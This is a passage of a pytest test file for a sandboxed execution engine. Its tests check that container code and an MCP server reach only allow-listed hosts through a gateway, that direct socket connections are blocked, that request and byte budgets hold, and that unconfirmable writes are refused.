    await engine.agents.bind("reader", Binding(tool="run_python"), by=me, now=engine.now())
    asked: list[tuple[str, dict[str, Any]]] = [
        ("run_python", {"session_id": session.id}),
        ("run_python", {"agent_id": "reader"}),
        ("read_it", {}),
    ]
    for tool, options in asked:
        answer = await engine.call(tool, code, **options)
        assert answer.error is None, answer.error
        assert answer.data["value"] == 200
        assert used(answer).hosts == {HOST: 1}
    assert (await engine.call("run_python", code)).error is not None
    assert session.network == (HOST,)
    await engine.sessions.end(me, session.id)


@pytest.mark.parametrize(
    ("tool", "arguments", "host", "why"),
    [
        ("run_python", {"code": "1"}, "http://x.test", "is no host name"),
        ("run_python", {"code": "1"}, "*", "only in front"),
        ("calculator", {"expression": "1"}, HOST, "programs in containers"),
    ],
)
async def test_network_that_cannot_be_had_is_refused(
    engine: Engine, tool: str, arguments: dict[str, str], host: str, why: str
) -> None:
    answer = await engine.call(tool, arguments, network=[host])
    assert answer.error is not None
    assert (answer.error.code, list(answer.error.fields)) == (
        "INVALID_PARAMS", ["options.network"],
    )  # fmt: skip
    assert why in answer.error.message


@pytest.mark.needs("runsc")
async def test_gateway_is_the_only_way_on_gvisor_too(home: Path, upstream: Upstream) -> None:
    config = Config(
        home=home,
        gateway=GatewaySettings(hosts=NAMES, allowed_hosts=(HOST,)),
        container=ContainerSettings(
            pool_min=0, runtime="runsc", images=LanguageImages(python="python")
        ),
        mcp_servers={"fetcher": FETCHER},
    )
    async with Engine(config=config) as engine:
        code = f"fetch({url(upstream)!r})[0], fetch({url(upstream, host=OTHER)!r})[0]"
        answer = await run(engine, code)
        assert answer.data["value"] == [200, 403]
        direct = f"import socket\nsocket.create_connection(('127.0.0.1', {upstream.port}), 2)"
        assert (await run(engine, direct)).error is not None
        assert (await fetched(engine, url=url(upstream))).data["text"].startswith("200")
        assert "did not ask" in (await fetched(engine, url=url(upstream, host=OTHER))).data["text"]
    assert len(upstream.requests) == 2


async def test_budget_of_requests_and_bytes_is_never_overspent(
    home: Path, upstream: Upstream
) -> None:
    """Also by programs that run at once. Twin: requests within it. Control: a call without network,
    and one that a receipt answers."""
    upstream.script("/long", Reply(body=b"x" * 400_000))
    budgets = (
        BudgetRule(name="few", requests=6),
        BudgetRule(name="short", network_bytes=1_000_000),
    )
    config = Config(
        home=home,
        gateway=GatewaySettings(hosts=(HOST,), allowed_hosts=(HOST,)),
        container=ContainerSettings(pool_min=0, images=LanguageImages(python="python")),
        budgets=budgets,
    )
    code = f"[fetch({url(upstream)!r})[0] for _ in range(5)]"
    async with Engine(config=config) as engine:
        recorded = await run(engine, f"fetch({url(upstream)!r})[0]", receipt=True)
        both: list[Envelope] = []
        async with anyio.create_task_group() as group:
            for _ in range(2):
                group.start_soon(run_into, both, engine, code)
        codes = sorted(status for answer in both for status in answer.data["value"])
        assert codes == [200] * 5 + [429] * 5
        assert len(upstream.requests) == 6
        warnings = str([answer.metadata.warnings for answer in both])
        assert "budget has no request left" in warnings
        assert (await engine.call("run_python", {"code": "1"})).success
        assert recorded.metadata.receipt is not None
        assert recorded.metadata.receipt.url is not None
        receipt = json.loads(await engine.blob(recorded.metadata.receipt.url))
        again = await run(engine, f"fetch({url(upstream)!r})[0]", replay=receipt["network"])
        assert again.data["value"] == 200
    config = config.model_copy(update={"budgets": budgets[1:], "home": home / "other"})
    async with Engine(config=config) as engine:
        long = f"""
for _ in range(4):
    try: print(len(fetch({url(upstream, "/long")!r})[1]))
    except Exception as error: print(type(error).__name__)
"""
        answer = await run(engine, long)
        assert answer.data["stdout"].splitlines()[:2] == ["400000"] * 2
        assert "400000" not in answer.data["stdout"].splitlines()[2:]
        assert 900_000 < used(answer).bytes_in + used(answer).bytes_out <= 1_000_000


async def run_into(answers: list[Envelope], engine: Engine, code: str) -> None:
    answers.append(await run(engine, code))


async def test_engine_without_allowed_hosts_gives_no_network(home: Path) -> None:
    async with Engine(config=Config(home=home)) as closed:
        answer = await closed.call("run_python", {"code": "1"}, network=[HOST])
    assert answer.error is not None
    assert answer.error.code == "PERMISSION_DENIED"
    assert "gateway.hosts" in answer.error.message


async def fetched(engine: Engine, **arguments: str) -> Envelope:
    """The answer of the MCP server in a container, once it is there."""
    with anyio.fail_after(DEADLINE_S):
        while "fetcher__fetch" not in [tool.name for tool in engine.tools()]:
            await anyio.sleep(0.02)
    return await engine.call("fetcher__fetch", arguments)


async def test_mcp_server_in_a_container_reaches_its_hosts_and_no_others(
    engine: Engine, upstream: Upstream
) -> None:
    """The others: not of its configuration, a write that nobody can be asked about, loopback."""
    upstream.script("/", Reply(body=b"hello"))
    answer = await fetched(engine, url=url(upstream))
    assert answer.data == {"text": "200 hello"}
    assert used(answer).hosts == {HOST: 1}
    assert upstream.requests[-1].headers["authorization"] == f"Bearer {SECRET}"  # not in it
    refused = await fetched(engine, url=url(upstream, host=OTHER))
    assert "did not ask for" in refused.data["text"]
    assert (used(refused).requests, used(refused).denied) == (1, 1)
    refused = await fetched(engine, url=url(upstream), method="DELETE")
    assert "no human can be asked" in refused.data["text"]
    assert refused.metadata.warnings
    refused = await fetched(engine, url=f"http://127.0.0.1:{upstream.port}/")
    assert "Connection refused" in refused.data["text"]
    assert [one.method for one in upstream.requests] == ["GET"]


async def test_large_answer_reaches_an_mcp_server_and_the_engine_goes_on(
    engine: Engine, upstream: Upstream
) -> None:
    upstream.script("/big", Reply(body=b"x" * 900_000))
    answers = await asyncio.gather(*(fetched(engine, url=url(upstream, "/big")) for _ in range(4)))
    assert all(answer.success for answer in answers)
    assert sum(used(answer).bytes_in for answer in answers) > 4 * 900_000
